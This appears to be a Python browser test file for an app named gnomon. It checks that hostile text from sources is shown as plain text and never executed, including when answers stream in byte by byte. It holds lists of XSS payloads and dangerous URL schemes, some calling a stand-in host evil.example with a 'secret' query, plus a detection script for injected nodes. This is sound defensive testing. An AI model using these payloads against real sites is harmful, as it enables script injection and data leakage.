"""What sources say stays text: in every part of an answer, however the bytes arrive."""

from __future__ import annotations

import gzip
import json
import os
from pathlib import Path
from typing import Any

import msgspec
import pytest

from gnomon.types import SourceConfig

TAKEOVERS = (
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<svg onload=\"document.title='owned'\"><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "[click](javascript:document.title='owned') ![p](https://evil.example/p.png?q=secret)",
    "[a]: data:text/html,<script>alert(1)</script>\n[a]",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<math><mtext><table><mglyph><style><img title="--&gt;&lt;img src=x onerror=1&gt;">',
    "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/x.png}$$",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\n```",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "<base href=https://evil.example/><form action=/x><input autofocus onfocus=alert(1)>",
    "\u202egnp.exe\u2066 \u200bzero\u200b \U000e0041\U000e007f",
    "<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>",
)
ALL = " ".join(TAKEOVERS)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://user:password@evil.example/",
    "//evil.example/x",
)
FOREIGN = """() => {
  const bad = [];
  for (const node of document.querySelectorAll("#root *")) {
    if (["SCRIPT", "IFRAME", "OBJECT", "EMBED", "STYLE", "BASE", "VIDEO", "AUDIO", "MATH"]
        .includes(node.tagName) || node.matches("form[action]")) bad.push(node.outerHTML);
    if (node.tagName === "IMG" && node.getAttribute("src") !== "/static/icon.svg")
      bad.push(node.outerHTML);
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on")) bad.push(node.outerHTML);
      if (["href", "src", "action", "xlink:href"].includes(name) &&
          !/^(https?:|mailto:|[/#])/.test(value)) bad.push(node.outerHTML);
      if (name === "href" && value.startsWith("//")) bad.push(node.outerHTML);
    }
  }
  return bad;
}"""


async def harmless(page: Any) -> None:
    """Nothing of what was said became a part of the page."""
    assert await page.evaluate(FOREIGN) == []
    assert await page.evaluate("window.owned") is None
    title = await page.title()
    assert not title.startswith("owned")


async def test_a_part_that_is_not_ours_would_be_noticed(
    house: Any, served: Any, opened: Any
) -> None:
    async with served(house) as url, opened(url) as page:
        await page.locator(".composer").wait_for()
        await page.evaluate(
            "document.querySelector('main').append(document.createElement('iframe'))"
        )
        assert await page.evaluate(FOREIGN) == ["<iframe></iframe>"]


async def answered(page: Any) -> None:
    await page.get_by_text("Newest evidence").last.wait_for()


async def test_hostile_words_in_every_place_stay_words(
    house: Any, served: Any, opened: Any, kit: Any
) -> None:
    bad = [
        msgspec.structs.replace(
            kit.CITED, number=n, key="page:evil", quote=ALL, title=ALL, url=address, author=ALL,
            source=ALL, start=0, end=len(ALL), copy_sources=(ALL,),
        )
        for n, address in enumerate(ADDRESSES, 1)
    ]  # fmt: skip
    house.answerer.sentences = [(kit.sentence(ALL, *range(1, len(bad) + 1)), tuple(bad))]
    house.record.documents = [
        kit.document("page:evil", ALL, title=ALL, url=address, author=ALL, source=ALL)
        for address in ADDRESSES[:1]
    ]
    house.record.configs = {ALL: SourceConfig(name=ALL, type="feed", title=ALL)}
    async with served(house) as url, opened(url) as page:
        await page.get_by_label("Question", exact=True).fill(ALL)
        await page.keyboard.press("Enter")
        await answered(page)
        await page.get_by_text(f"Evidence ({len(ADDRESSES)})").click()
        await page.locator(".pill").first.click()
        await page.locator(".card blockquote").wait_for()
        await harmless(page)
        await page.keyboard.press("Escape")
        for place in ("/search?q=bridge", "/sources", "/threads"):
            await page.goto(url + place)
            await page.locator("main h1").wait_for()
            await page.wait_for_timeout(150)
            await harmless(page)
        await page.goto(url + "/saved/page:evil")
        await page.locator(".copy").wait_for()
        assert await page.locator("main img, main script, main iframe").count() == 0
        assert "owned" not in (await page.title()).split("<")[0]


BYTE_BY_BYTE = """(bytes) => {
  const real = window.fetch;
  window.fetch = (path, init) => {
    if (path !== "/v1/ask") return real(path, init);
    let at = 0;
    const body = new ReadableStream({
      async pull(control) {
        if (at === bytes.length) return control.close();
        control.enqueue(new Uint8Array([bytes[at++]]));
        // Let the page draw what has come so far, now and then even to the screen.
        if (at % 64 === 0) await new Promise((done) => setTimeout(done, 0));
      },
    });
    const headers = { "content-type": "text/event-stream" };
    return Promise.resolve(new Response(body, { headers }));
  };
}"""


def stream(kit: Any, texts: list[str]) -> bytes:
    """An answer of these sentences as `/v1/ask` sends it."""
    citation = msgspec.to_builtins(kit.CITED) | {"saved_url": "/saved/x?version=1"}
    sentences = [msgspec.to_builtins(kit.sentence(text, 1)) for text in texts]
    freshness = {"newest_at": None, "newest_age_s": None, "searched": 1, "silent": []}
    answer = {
        "id": "ans", "question": texts[0], "created_at": "2026-01-01T00:00:00Z", "as_of": None,
        "sentences": sentences, "citations": [citation], "abstained": False, "closest": None,
        "freshness": freshness, "writer": texts[0], "notes": texts, "disagreements": [],
        "superseded": [], "timings_ms": {}, "usage": {},
    }  # fmt: skip
    events = [
        ("planned", {"id": "ask_1", "plan": {"search_text": texts[0], "notes": texts}}),
        ("retrieved", {"citations": [citation], "freshness": freshness, "took_ms": 1}),
        *[("sentence", {"sentence": s, "citations": [citation]}) for s in sentences],
        ("finished", {"id": "ask_1", "answer": answer}),
    ]
    lines = (f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
    return "".join(lines).encode()


async def test_an_answer_that_arrives_byte_by_byte_runs_nothing(
    house: Any, served: Any, opened: Any, kit: Any
) -> None:
    async with served(house) as url, opened(url) as page:
        await page.evaluate(BYTE_BY_BYTE, list(stream(kit, list(TAKEOVERS))))
        await page.get_by_label("Question", exact=True).fill("What is new?")
        await page.keyboard.press("Enter")
        await page.locator(".sentences li").first.wait_for()
        await harmless(page)
        await page.get_by_text("No evidence was used").wait_for()
        await harmless(page)
        assert await page.locator(".sentences li").count() == len(TAKEOVERS)
        shown = await page.locator(".sentences li .words").nth(1).inner_text()
        assert shown == TAKEOVERS[1]


@pytest.mark.slow
async def test_naughty_strings_are_shown_as_they_are(
    house: Any, served: Any, opened: Any, kit: Any
) -> None:
    given = os.environ.get("GNOMON_TEST_DATA")
    folder = Path(given) if given else Path(__file__).parents[3] / "shared" / "data"
    file = folder / "security" / "naughty_strings.json.gz"
    if not file.is_file():
        pytest.skip("no test data: set GNOMON_TEST_DATA to its folder")
    strings = [text for text in json.loads(gzip.decompress(file.read_bytes())) if text.strip()]
    async with served(house) as url, opened(url) as page:
        for at in range(0, len(strings), 40):
            await page.goto(url)
            await page.evaluate(BYTE_BY_BYTE, list(stream(kit, strings[at : at + 40])))
            await page.get_by_label("Question", exact=True).fill("What is new?")
            await page.keyboard.press("Enter")
            await page.get_by_text("No evidence was used").wait_for()
            await harmless(page)
